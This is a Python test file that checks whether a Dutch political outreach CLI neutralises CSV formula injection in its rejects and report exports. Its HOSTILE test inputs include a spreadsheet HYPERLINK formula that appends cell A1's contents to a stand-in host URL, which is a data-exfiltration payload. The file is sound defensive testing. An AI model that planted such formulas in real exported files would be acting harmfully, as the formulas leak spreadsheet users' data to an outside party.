"""No CSV that outreach writes can run as a spreadsheet formula (CSV injection; issue 11, item 8)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from sqlalchemy import Engine
from typer.testing import CliRunner

from outreach.cli import app
from outreach.csvfiles import FORMULA_STARTS, neutralise
from outreach.db import session_scope
from outreach.models import DeliveryState
from tests.conftest import REPO
from tests.factories import add_contact, load_reference
from tests.fixtures_registry import WriteCsv
from tests.fixtures_tracking import add_campaign, add_delivery

HOSTILE = [
    '=HYPERLINK("https://example.invalid/?"&A1,"D66")',
    "+31 6 12345678",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def test_neutralise_marks_every_formula_start_and_leaves_the_rest() -> None:
    for value in HOSTILE:
        assert neutralise(value) == "'" + value
    assert {value[0] for value in HOSTILE} == set(FORMULA_STARTS)
    for harmless in ("GroenLinks-PvdA", "van der Berg", "", "'al tekst", "1=1"):
        assert neutralise(harmless) == harmless
    assert neutralise(-3) == -3 and neutralise(0.5) == 0.5  # numbers are numbers


def test_the_rejects_file_neutralises_formulas(
    runner: CliRunner, db_url: str, registry_engine: Engine, write_csv: WriteCsv, tmp_path: Path
) -> None:
    rows = [["Voornaam", "Achternaam", "Functie", "Fractie", "E-mail", "Gemeente"]]
    # Each row is rejected (no valid address) and carries a formula in a name or party cell.
    for n, value in enumerate(HOSTILE):
        rows.append([value, f"Jansen{n}", "raadslid", value, f"geen-adres-{n}", "Utrecht"])
    source = write_csv(rows, encoding="utf-8")
    rejects = tmp_path / "afgewezen.csv"
    result = runner.invoke(
        app, ["--database", db_url, "contacts", "import", str(source), "--rejects", str(rejects)]
    )
    assert result.exit_code == 0, result.output
    with rejects.open(encoding="utf-8-sig", newline="") as fh:
        table = list(csv.DictReader(fh, delimiter=";"))
    assert len(table) == len(HOSTILE)
    for value, row in zip(HOSTILE, table, strict=True):
        assert row["Voornaam"] == "'" + value.strip() or row["Voornaam"] == "'" + value
        assert row["Fractie"].startswith("'"), row
        for cell in row.values():
            assert not cell.startswith(FORMULA_STARTS), row


def test_report_csv_neutralises_formulas(engine: Engine, db_url: str, runner: CliRunner) -> None:
    load_reference(engine)
    with session_scope(engine) as session:
        campaign = add_campaign(session, "jeugdzorg-2026")
        for n, party in enumerate(HOSTILE):
            contact = add_contact(session, f"r{n}@utrecht.nl", party=party)
            add_delivery(session, campaign, contact, state=DeliveryState.SENT)
    result = runner.invoke(
        app, ["--database", db_url, "report", "--campaign", "jeugdzorg-2026", "--by", "party", "--csv"]
    )
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout)))
    groups = [row[0] for row in rows[1:-1]]
    assert sorted(groups) == sorted("'" + party for party in HOSTILE)
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), row


def test_no_module_writes_csv_around_the_shared_helper() -> None:
    writers = re.compile(r"\bcsv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(REPO))
        for path in (REPO / "outreach").rglob("*.py")
        if path.name != "csvfiles.py" and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == [], "write CSV with outreach.csvfiles.writer, which neutralises formulas"
